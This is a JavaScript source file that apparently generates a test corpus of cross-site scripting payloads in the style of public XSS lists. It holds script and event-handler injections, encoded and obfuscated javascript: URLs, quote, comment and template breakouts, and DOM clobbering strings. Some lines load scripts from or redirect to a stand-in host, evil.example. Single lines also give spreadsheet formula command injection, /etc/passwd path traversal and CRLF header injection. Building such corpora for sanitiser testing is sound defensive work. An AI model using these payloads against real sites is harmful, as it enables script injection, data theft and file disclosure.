// Texts in the forms of the public XSS lists: tags, attributes, addresses, encodings, and what breaks
// out of quotes, comments, templates and text fields. Each would set `ran`, or load or show something.

const ACT = "ran=1";

export function payloads() {
  const handlers = ["onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart",
    "onpointerenter", "onbegin", "onstart", "onpageshow", "onwheel", "oncopy", "onauxclick", "onbeforetoggle"];
  const tags = {
    img: "src=x", svg: "", body: "", video: "src=x", audio: "src=x", input: "autofocus", select: "autofocus",
    textarea: "autofocus", details: "open", marquee: "", iframe: "src=x", object: "data=x", embed: "src=x",
    math: "", a: "href=x tabindex=1 autofocus", button: "autofocus popovertarget=x", style: "", link: "rel=stylesheet href=x",
  };
  const addresses = [`javascript:${ACT}`, `JaVaScRiPt:${ACT}`, `java\tscript:${ACT}`, `java\nscript:${ACT}`, ` javascript:${ACT}`,
    `javascript&colon;${ACT}`, `&#106;avascript:${ACT}`, `&#x6A;avascript:${ACT}`, `data:text/html,<script>${ACT}</script>`,
    `data:text/html;base64,PHNjcmlwdD5yYW49MTwvc2NyaXB0Pg==`, `vbscript:${ACT}`, `//evil.example/x`, `\\\\evil.example\\x`];
  const all = [`<script>${ACT}</script>`, `<SCRIPT>${ACT}</SCRIPT>`, `<script >${ACT}</script >`, `<script/x>${ACT}</script>`,
    `<scr<script>ipt>${ACT}</scr</script>ipt>`, `<script src=//evil.example/x.js></script>`, `<script type=module>${ACT}</script>`,
    `<script>${ACT}`, `<<script>${ACT}//<</script>`, `\u003cscript\u003e${ACT}\u003c/script\u003e`, `\uff1cscript\uff1e${ACT}\uff1c/script\uff1e`,
    `%3Cscript%3E${ACT}%3C/script%3E`, `&lt;script&gt;${ACT}&lt;/script&gt;`, `&#60;script&#62;${ACT}&#60;/script&#62;`,
    `+ADw-script+AD4-${ACT}+ADw-/script+AD4-`, `\\x3cscript\\x3e${ACT}\\x3c/script\\x3e`];
  for (const [tag, attributes] of Object.entries(tags)) {
    for (const handler of handlers.slice(0, 6)) all.push(`<${tag} ${attributes} ${handler}=${ACT}>`);
  }
  for (const handler of handlers) {
    all.push(`" ${handler}="${ACT}" x="`, `' ${handler}='${ACT}' x='`);
  }
  for (const address of addresses) {
    all.push(`<a href="${address}">x</a>`, `<form action="${address}"><button>x</button></form>`, address);
  }
  for (const closing of ["textarea", "title", "style", "script", "noscript", "template", "select", "option", "button", "bdi", "svg", "iframe"]) {
    all.push(`</${closing}><img src=x onerror=${ACT}>`);
  }
  all.push(
    `"><script>${ACT}</script>`, `'><script>${ACT}</script>`, `"><svg/onload=${ACT}>`, `\`><img src=x onerror=${ACT}>`,
    `--><script>${ACT}</script><!--`, `<!--><img src=x onerror=${ACT}>-->`, `<!--[if gte IE 4]><script>${ACT}</script><![endif]-->`,
    `]]><script>${ACT}</script>`, `<![CDATA[<script>${ACT}</script>]]>`, `<?xml version="1.0"?><script>${ACT}</script>`,
    `<meta http-equiv=refresh content="0;url=//evil.example">`, `<base href=//evil.example/>`, `<link rel=import href=//evil.example>`,
    `<style>@import '//evil.example/x.css';</style>`, `<style>*{background:url(//evil.example/x)}</style>`,
    `<div style="background:url(//evil.example/x)">`, `<div style="width:expression(${ACT})">`, `<img src=//evil.example/x.png>`,
    `<svg><script>${ACT}</script></svg>`, `<svg><animate onbegin=${ACT} attributeName=x dur=1s>`, `<svg><use href="data:image/svg+xml,x#x"/></svg>`,
    `<svg><foreignObject><iframe srcdoc="<script>${ACT}</script>"></foreignObject></svg>`, `<iframe srcdoc="<script>${ACT}</script>"></iframe>`,
    `<math><mtext><table><mglyph><style><img src=x onerror=${ACT}>`, `<noscript><p title="</noscript><img src=x onerror=${ACT}>">`,
    `<form><input name=form_token value=x><button formaction=//evil.example>x</button></form>`, `<input type=hidden name=form_token value=evil>`,
    `{{constructor.constructor('${ACT}')()}}`, `\${${ACT}}`, `<%= ${ACT} %>`, `#{${ACT}}`, `[[${ACT}]]`, `{% raw %}${ACT}`,
    `<img id=main><img name=said>`, `<form id=results><input name=q></form>`, `<a id=document><a id=document name=forms>`,
    `<div data-live="now" data-copy data-typing="results">`, `<p class="notice">Undone.</p>`, `</main></body></html><h1>evil</h1>`,
    `\u202e<script>${ACT}</script>`, `\u2066evil\u2069\u200b\u200f`, `a\u0000<script>${ACT}</script>`.replace("\u0000", "\u0001"),
    `\u2028<script>${ACT}</script>\u2029`, `<img src=x onerror=\u00a0${ACT}>`, `<img/src=\`x\`onerror=${ACT}>`, `<img\fsrc=x\fonerror=${ACT}>`,
    `<x contenteditable onblur=${ACT}>`, `<input onfocus=${ACT} autofocus>`, `<video><source onerror=${ACT}></video>`, `<dialog open onclose=${ACT}>`,
    `<portal src=//evil.example>`, `<object data="javascript:${ACT}">`, `<isindex action=javascript:${ACT} type=image>`, `<keygen autofocus onfocus=${ACT}>`,
    `=cmd|' /C calc'!A0`, `../../../../etc/passwd`, `?done=1&x=<script>`, `%0d%0aSet-Cookie:%20x=y`, `\r\nX-Evil: yes`,
  );
  return [...new Set(all)];
}
